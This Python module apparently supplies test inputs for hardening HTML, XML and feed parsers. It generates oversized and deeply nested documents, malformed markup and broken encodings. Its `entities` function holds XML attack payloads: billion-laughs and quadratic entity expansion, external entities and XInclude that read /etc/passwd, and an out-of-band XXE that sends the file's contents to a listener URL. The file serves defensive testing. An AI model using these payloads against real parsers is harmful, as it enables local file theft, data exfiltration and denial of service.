"""HTML, XML and feeds that cost more than they say: each function gives one of about `size` bytes."""

from collections.abc import Callable, Mapping

Bomb = Callable[[int], bytes]

_WORDS = b"The Bureau of Industry and Security adds the firm to the Entity List on May 13, 2025. "


def again(piece: bytes, before: bytes = b"", after: bytes = b"") -> Bomb:
    """Return what repeats `piece` up to a size."""
    return lambda size: before + piece * (size // len(piece)) + after


def _numbered(piece: bytes, before: bytes, after: bytes) -> Bomb:
    """Return what repeats `piece` with its number in place of "%d"."""
    return lambda size: (
        before + b"".join(piece % (at, at) for at in range(size // (len(piece) + 8))) + after
    )


def _comb(size: int) -> bytes:
    """Return a tree of up to 1,500 levels with as many leaves at each level as fit."""
    depth = min(1500, max(1, size // 16))
    leaves = b"<p>text</p>" * max(1, size // depth // 16)
    return b"<html><body>" + (b"<div>" + leaves) * depth


HTML: Mapping[str, Bomb] = {
    "nested blocks": again(b"<div>", b"<html><body>", b"text"),
    "nested inline tags": again(b"<b>", b"<html><body><p>", b"text"),
    "nested fonts": again(b"<font size=1>", b"<html><body><p>", b"text"),
    "nested tables": again(b"<table><tr><td>", b"<html><body>", b"text"),
    "nested lists": again(b"<ul><li>", b"<html><body>", b"text"),
    "a deep comb": _comb,
    "attributes": _numbered(b'a%d="%d" ', b"<html><body><p ", b">text"),
    "one attribute": again(b"a-", b'<html><body><p class="', b'">text'),
    "tagged classes": again(b"tag-a ", b'<html><body><p class="', b'">text'),
    "one line": again(_WORDS, b"<html><body><p>"),
    "one word": again(b"a", b"<html><body><p>"),
    "a row of cells": again(b"<td>x", b"<html><body><table><tr>"),
    "a table of cells": again(b"<tr><td>x<td>y", b"<html><body><table>"),
    "a table of text": again(b"<tr><td>" + _WORDS, b"<html><body><table>"),
    "spans": again(b"<td rowspan=65534 colspan=1000>x", b"<html><body><table><tr>"),
    "paragraphs": again(b"<p>" + _WORDS, b"<html><body>"),
    "short paragraphs": again(b"<p>x", b"<html><body>"),
    "line breaks": again(b"x<br>", b"<html><body>"),
    "links": again(b"<a href=/a>a</a> ", b"<html><body>"),
    "long links": _numbered(b"<p><a href=/press/%d>News number %d of today</a>", b"<html>", b""),
    "list items": again(b"<li>x", b"<html><body><ul>"),
    "headings": again(b"<h1>BIS adds firms</h1>", b"<html><body>"),
    "titles": again(b"<title>BIS adds firms</title>", b"<html><head>"),
    "metas": again(b'<meta property="article:published_time" content="2025-05-13">', b"<html>"),
    "dates": again(b"<p>May 13, 2025</p>", b"<html><body><h1>BIS adds firms</h1>"),
    "times": again(b'<time datetime="2025-05-13">May 13</time>', b"<html><body><h1>BIS</h1>"),
    "bylines": again(b"<p>By Jane Doe and John Roe", b"<html><body><h1>BIS</h1>"),
    "comments of readers": again(b"<p>Jane: it is so</p><p>2 hours ago</p>", b"<html><h2>Comments</h2>"),
    "entities": again(b"&amp;&#65;&notit;", b"<html><body><p>"),
    "open tags": again(b"<", b"<html><body><p>"),
    "open comments": again(b"<!--", b"<html><body><p>text</p>"),
    "open quotes": again(b"<a '", b"<html><body><p>text</p>"),
    "open sections": again(b"<![CDATA[", b"<html><body><p>text</p>"),
    "closing tags": again(b"</p>", b"<html><body><p>text"),
    "misnested": again(b"<b><p></b><i></p>", b"<html><body><p>text"),
    "forms": again(b"<form><input><select><option>", b"<html><body><p>text"),
    "base addresses": again(b"<base href=//a/>", b"<html><head>", b"<body><p><a href=x>text</a>"),
    "scripts": again(b"<script>1</script>", b"<html><body><p>text"),
    "JSON-LD in depth": again(
        b'{"a":[', b'<html><script type="application/ld+json">', b"</script><p>text"
    ),
    "JSON-LD of one number": again(
        b"9", b'<html><script type="application/ld+json">{"datePublished":', b"}</script><p>text"
    ),
    "mixed encodings": again(
        "日本".encode("utf-16") + b"\x93caf\xe9\x94 \xff\xfe\x00" + "Ж".encode(), b"<html><p>"
    ),
    "no characters": again(b"\xed\xa0\x80\x00\x01\xef\xbf\xbe", b"<html><body><p>text "),
    "marks on one letter": again("\u0301".encode(), b"<html><body><p>a"),
    "blanks": again(b" \n", b"<html><body><p>text", b"."),
}  # fmt: skip

_LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (at, b"&l%d;" % (at - 1) * 10) for at in range(1, 12))
_INCLUDE = b"<i:include xmlns:i='http://www.w3.org/2001/XInclude' parse='text' href='%b'/>"


def entities(listener: str = "http://127.0.0.1:9/") -> Mapping[str, tuple[bytes, bytes]]:
    """Return what opens files, calls `listener` or grows: what stands before a root, and inside."""
    there = listener.encode()
    return {
        "billion laughs": (b'<!DOCTYPE x [<!ENTITY l0 "lol">' + _LAUGHS + b"]>", b"&l11;"),
        "quadratic": (b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 60_000 + b'">]>', b"&a;" * 60_000),
        "a file": (b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', b"&a;"),
        "an address": (b'<!DOCTYPE x [<!ENTITY a SYSTEM "' + there + b'a">]>', b"&a;"),
        "an outside subset": (b'<!DOCTYPE x SYSTEM "' + there + b'b.dtd">', b""),
        "a parameter": (b'<!DOCTYPE x [<!ENTITY % p SYSTEM "' + there + b'c.dtd"> %p;]>', b""),
        "a file sent off": (
            b'<!DOCTYPE x [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e'
            b" \"<!ENTITY s SYSTEM '" + there + b"d?%f;'>\"> %e;]>", b"&s;",
        ),
        "itself": (b'<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', b"&a;"),
        "XInclude": (b"", _INCLUDE % b"file:///etc/passwd" + _INCLUDE % (there + b"e")),
        "a style sheet": (b'<?xml-stylesheet href="' + there + b'f.xsl" type="text/xsl"?>', b""),
        "default attributes": (
            b"<!DOCTYPE x [<!ATTLIST I "
            + b" ".join(b'a%d CDATA "v"' % at for at in range(3000)) + b">]>", b"<I/>" * 3000,
        ),
    }  # fmt: skip


XML: Mapping[str, Bomb] = {
    "italics in depth": again(b"<I>"),
    "emphasis": again(b'<E T="03">a</E> '),
    "marks": again(b"<SU>1</SU><FTREF/>\n "),
    "unknown tags": again(b"<X>a</X>"),
    "unknown tags in depth": again(b"<X>"),
    "paragraphs": again(b"</P><P>(a) The firm is listed."),
    "paragraphs in depth": again(b"<P>(a) "),
    "designators": again(b"(a)(1)(i)"),
    "divisions in depth": again(b'<DIV8 N="1">'),
    "extracts in depth": again(b"<EXTRACT>"),
    "rows": again(b"<ROW><ENT>a</ENT></ROW>", b"<GPOTABLE>", b"</GPOTABLE>"),
    "cells": again(b"<ENT>a</ENT>", b"<GPOTABLE><ROW>", b"</ROW></GPOTABLE>"),
    "cells of HTML": again(b"<TD>a</TD>", b"<TABLE><TR>", b"</TR></TABLE>"),
    "promised columns": again(
        b'<ROW><ENT A="2000000000">a</ENT></ROW>', b'<GPOTABLE COLS="2000000000">', b"</GPOTABLE>"
    ),
    "a number of columns": again(b"9", b'<GPOTABLE COLS="', b'"><ROW><ENT>a</ENT></ROW></GPOTABLE>'),
    "attributes": lambda size: b"<I " + b"".join(b'a%d="" ' % n for n in range(size // 9)) + b"/>",
    "one attribute": again(b"a", b'<I T="', b'"/>'),
    "one word": again(b"a"),
    "line breaks": again(b"\n "),
    "comments": again(b"<!-- -->a"),
    "sections of characters": again(b"<![CDATA[a]]>"),
    "name spaces": lambda size: b"".join(b'<I xmlns:a%d="b">' % n for n in range(size // 18)),
    "characters": again(b"&#65;"),
}  # fmt: skip
